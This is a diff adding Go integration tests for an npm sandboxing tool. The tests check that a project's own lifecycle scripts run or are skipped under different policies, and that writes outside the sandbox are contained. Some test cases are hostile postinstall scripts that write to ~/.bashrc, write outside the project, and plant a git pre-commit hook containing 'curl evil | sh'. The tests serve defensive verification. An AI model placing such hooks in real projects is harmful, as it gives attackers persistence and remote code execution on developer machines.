@@ -1,0 +1,151 @@
+package integration
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// The project's own lifecycle scripts (issue 11 item 2) run in the sandbox after
+// the dependencies' build, as `npm install` runs them; what they write in the
+// project is synced back, .git/ never.
+
+// rootScriptsProject writes the project's package.json (name pbox-root, one tiny
+// dependency without scripts) with scripts, and optionally a policy.
+func rootScriptsProject(t *testing.T, b *pmBox, scripts, extraDeps, policy string) {
+	t.Helper()
+	deps := `"is-odd":"3.0.1"`
+	if extraDeps != "" {
+		deps += "," + extraDeps
+	}
+	writeFile(t, filepath.Join(b.Project, "package.json"), `{"name":"pbox-root","version":"1.0.0","scripts":{`+scripts+`},"dependencies":{`+deps+`}}`+"\n", 0o644)
+	if policy != "" {
+		writeFile(t, filepath.Join(b.Project, ".phylum-box.yaml"), policy, 0o644)
+	}
+	chownTree(t, b.Mode, b.Project)
+}
+
+const genPostinstall = `"postinstall":"mkdir -p generated && echo ok > generated/out.txt"`
+
+func readString(p string) string {
+	data, err := os.ReadFile(p)
+	if err != nil {
+		return ""
+	}
+	return string(data)
+}
+
+// A root postinstall that generates a file: the file reaches the project, with
+// npm install and npm ci; --ignore-scripts and scripts: none skip it; under
+// scripts: allowlist the project's name in allow_scripts runs it.
+func TestRootScriptsGenerateFile(t *testing.T) {
+	requireTool(t, "npm")
+	forEachMode(t, func(t *testing.T, m mode) {
+		out := func(b *pmBox) string { return readString(filepath.Join(b.Project, "generated", "out.txt")) }
+
+		b := newPMBox(t, m)
+		rootScriptsProject(t, b, genPostinstall, "", "")
+		r := b.tool("", "npm", "install")
+		wantCode(t, r, 0, "npm install with a root postinstall")
+		if out(b) != "ok\n" {
+			t.Fatalf("the root postinstall's file did not reach the project:\n%s", r)
+		}
+		wantStderr(t, r, "the project's own scripts")
+		wantFile(t, filepath.Join(b.Project, "node_modules", "is-odd", "package.json"), "the dependency is installed")
+
+		// npm ci runs it too (the lockfile from the install above).
+		if err := os.RemoveAll(filepath.Join(b.Project, "generated")); err != nil {
+			t.Fatal(err)
+		}
+		r = b.tool("", "npm", "ci")
+		wantCode(t, r, 0, "npm ci with a root postinstall")
+		if out(b) != "ok\n" {
+			t.Errorf("npm ci: the root postinstall's file did not reach the project:\n%s", r)
+		}
+
+		b = newPMBox(t, m)
+		rootScriptsProject(t, b, genPostinstall, "", "")
+		r = b.tool("", "npm", "install", "--ignore-scripts")
+		wantCode(t, r, 0, "npm install --ignore-scripts")
+		if pathExists(filepath.Join(b.Project, "generated")) {
+			t.Errorf("--ignore-scripts ran the root postinstall:\n%s", r)
+		}
+		wantFile(t, filepath.Join(b.Project, "node_modules", "is-odd", "package.json"), "--ignore-scripts installs")
+
+		b = newPMBox(t, m)
+		rootScriptsProject(t, b, genPostinstall, "", "scripts: none\n")
+		r = b.tool("", "npm", "install")
+		wantCode(t, r, 0, "scripts: none")
+		if pathExists(filepath.Join(b.Project, "generated")) {
+			t.Errorf("scripts: none ran the root postinstall:\n%s", r)
+		}
+		wantStderr(t, r, "scripts: none")
+
+		b = newPMBox(t, m)
+		rootScriptsProject(t, b, genPostinstall, "", "scripts: allowlist\nallow_scripts: [\"some-other-package\"]\n")
+		r = b.tool("", "npm", "install")
+		wantCode(t, r, 0, "scripts: allowlist without the project")
+		if pathExists(filepath.Join(b.Project, "generated")) {
+			t.Errorf("scripts: allowlist without the project's name ran its postinstall:\n%s", r)
+		}
+		wantStderr(t, r, "pbox-root is not in the policy's allow_scripts")
+
+		b = newPMBox(t, m)
+		rootScriptsProject(t, b, genPostinstall, "", "scripts: allowlist\nallow_scripts: [\"pbox-root\"]\n")
+		r = b.tool("", "npm", "install")
+		wantCode(t, r, 0, "scripts: allowlist with the project's name")
+		if out(b) != "ok\n" {
+			t.Errorf("allow_scripts naming the project did not run its postinstall:\n%s", r)
+		}
+	})
+}
+
+// husky's prepare in a git repository: .husky/_ is created, .git/config is left
+// as it was, and the command to set core.hooksPath is printed; exit 0.
+func TestRootScriptsHuskyPrepare(t *testing.T) {
+	requireTool(t, "npm")
+	requireTool(t, "git")
+	forEachMode(t, func(t *testing.T, m mode) {
+		b := newPMBox(t, m)
+		rootScriptsProject(t, b, `"prepare":"husky"`, `"husky":"9.1.7"`, "")
+		hostSh(t, m, b.Project, "rm -rf .git && git init -q . && git config user.email it@example.invalid")
+		gitBefore := treeHash(t, filepath.Join(b.Project, ".git"), true)
+		r := b.tool("", "npm", "install")
+		wantCode(t, r, 0, "npm install of a husky project")
+		wantFile(t, filepath.Join(b.Project, ".husky", "_", "h"), "husky's hooks dir")
+		wantFile(t, filepath.Join(b.Project, ".husky", "_", "pre-commit"), "husky's hook shims")
+		assertSameTree(t, gitBefore, treeHash(t, filepath.Join(b.Project, ".git"), true), "the project's .git after husky's prepare")
+		wantStderr(t, r, "git config core.hooksPath .husky/_")
+	})
+}
+
+// Hostile twins: a root postinstall that writes ~/.bashrc (the sandbox's $HOME,
+// gone after the run), ../outside (not on the host), or .git/hooks/pre-commit
+// (refused: exit 4, nothing synced, not even its generated file).
+func TestRootScriptsHostile(t *testing.T) {
+	requireTool(t, "npm")
+	forEachMode(t, func(t *testing.T, m mode) {
+		b := newPMBox(t, m)
+		rootScriptsProject(t, b, `"postinstall":"echo evil >> $HOME/.bashrc; echo evil > ../outside.txt; mkdir -p generated && echo ok > generated/out.txt"`, "", "")
+		outside := filepath.Join(filepath.Dir(b.Project), "outside.txt")
+		removeAfter(t, outside)
+		homeBefore := pmHomeHash(b)
+		r := b.tool("", "npm", "install")
+		if pathExists(outside) {
+			t.Errorf("the root postinstall wrote ../outside.txt on the host:\n%s", r)
+		}
+		assertSameTree(t, homeBefore, pmHomeHash(b), "the caller's home after a root postinstall writing ~/.bashrc")
+		if strings.Contains(readString(filepath.Join(b.Home, ".bashrc")), "evil") {
+			t.Errorf("~/.bashrc was written")
+		}
+
+		b = newPMBox(t, m)
+		rootScriptsProject(t, b, `"postinstall":"mkdir -p generated && echo ok > generated/out.txt && echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"`, "", "")
+		before := projectState(t, b.Project)
+		r = b.tool("", "npm", "install")
+		wantCode(t, r, 4, "a root postinstall writing .git/hooks/pre-commit")
+		wantStderr(t, r, ".git/hooks/pre-commit")
+		assertSameTree(t, before, projectState(t, b.Project), "a refused .git/hooks write by the project's scripts")
+	})
+}
